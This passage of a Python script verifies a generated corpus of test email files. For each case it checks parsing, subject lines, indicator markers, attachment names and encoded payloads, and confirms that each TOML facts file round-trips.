            return decode_rfc2047(v.decode())
    return None


def verify(built) -> bool:
    ok_all = True
    total = 0
    print(f"{'file':46} {'bytes':>9} {'eol':4} {'parse':10} {'mark':6} {'list':6} {'pay':6} subj  payload evidence")
    for stem, eol, raw, facts in built:
        total += len(raw)
        repair = facts.get("_repair")
        problems = []
        try:
            msg = email.message_from_bytes(raw)
            parse = f"ok/{len(msg.defects)}d" if msg.defects else "ok"
            if stem.endswith("garbage-binary"):
                parse = "n/a"
        except Exception as e:  # noqa: BLE001
            parse = "FAIL"
            problems.append(f"parse: {e}")
        if not stem.endswith("garbage-binary") and facts.get("subject") is None:
            problems.append("no subject fact")
        corpus = text_corpus(repair or raw) if parse != "n/a" else raw.decode("latin-1")
        mk_ok = 0
        for m in facts.get("markers", []):
            if m in corpus or refang(m) in corpus:
                mk_ok += 1
            else:
                problems.append(f"marker not found: {m}")
        names = filenames(repair or raw) if parse != "n/a" else []
        li_ok = 0
        for n in facts.get("listed", []):
            if any(n in x for x in names) or (stem.endswith(("uuencode", "yenc")) and n.encode() in raw):
                li_ok += 1
            else:
                problems.append(f"listed name not found: {n}")
        evid = []
        pay_ok = 0
        for t in facts.get("payloads", []):
            how = find_payload(raw, t, repair)
            if how:
                pay_ok += 1
                evid.append(how)
            else:
                problems.append(f"payload not present: {t}")
            if len(t) < 12:
                problems.append(f"payload too short: {t}")
            if t in corpus and not stem.endswith(("uuencode", "yenc", "binhex", "base64-pe")):
                problems.append(f"payload appears in readable text: {t}")
        subj = "-"
        if facts.get("subject") is not None:
            got = raw_subject(raw)
            subj = "ok" if got == facts["subject"] else "BAD"
            if got != facts["subject"]:
                problems.append(f"subject {got!r} != {facts['subject']!r}")
        for m in facts.get("markers", []):
            if len(m) > 30 and not m.startswith("hxxp"):
                problems.append(f"marker longer than 30: {m}")
        import tomllib
        parsed = tomllib.loads((OUT / f"{stem}.toml").read_text(encoding="utf-8"))
        want = {k: v for k, v in facts.items() if not k.startswith("_") and v not in (None, [])}
        if parsed != want:
            problems.append("facts file does not round-trip through tomllib")
        nm, nl, np_ = len(facts.get("markers", [])), len(facts.get("listed", [])), len(facts.get("payloads", []))
        print(f"{stem:46} {len(raw):>9} {eol:4} {parse:10} {mk_ok}/{nm:<4} {li_ok}/{nl:<4} {pay_ok}/{np_:<4} "
              f"{subj:5} {','.join(sorted(set(evid)))}")
        for pr in problems:
            print(f"    !! {pr}")
            ok_all = False
    print(f"\n{len(built)} cases, {total} bytes ({total / 1024 / 1024:.2f} MiB)")
    if total >= 4 * 1024 * 1024:
        print("!! corpus is 4 MiB or larger")
        ok_all = False
    return ok_all


def main():
    if "--check" in sys.argv:
        built = []
        for idx, (name, eol, fn) in enumerate(CASES, 1):
            stem = f"{idx:02d}-{name}"
            _, facts = fn(idx)
            built.append((stem, eol, (OUT / f"{stem}.eml").read_bytes(), facts))
    else:
        built = build()
        write_readme(built)
    sys.exit(0 if verify(built) else 1)


if __name__ == "__main__":
    main()
